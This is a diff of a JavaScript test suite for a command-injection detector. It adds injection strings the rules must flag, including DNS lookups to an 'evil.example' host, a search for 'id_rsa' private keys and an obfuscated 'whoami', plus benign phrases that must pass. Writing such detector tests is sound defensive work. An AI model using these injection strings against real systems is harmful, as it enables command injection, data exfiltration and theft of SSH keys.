@@ -13,11 +13,15 @@ describe('cmdi: cmd.exe FOR and IF forms', () => {
     ['cmdi.chained-command', '; wget https://dl.example.net/x.sh'],
     ['cmdi.chained-command', '& ping 192.0.2.7'],
     ['cmdi.chained-command', '; chmod +x run.sh'],
+    ['cmdi.chained-command', '& nslookup abc.evil.example &'],
+    ['cmdi.chained-command', ';dig @192.0.2.1 evil.example'],
+    ['cmdi.chained-command', ';find / -name id_rsa'],
+    ['cmdi.obfuscated-word', ';wh$()oami'],
   ])('%s: %s', (id, v) => {
     expect(rules(v)).toContain(id);
   });
 
-  it.each(['ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
+  it.each(['Q&A; cat / dog pics', 'I use nslookup example.com daily', 'ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
     const r = inspector.inspect(query(v));
     expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
   });
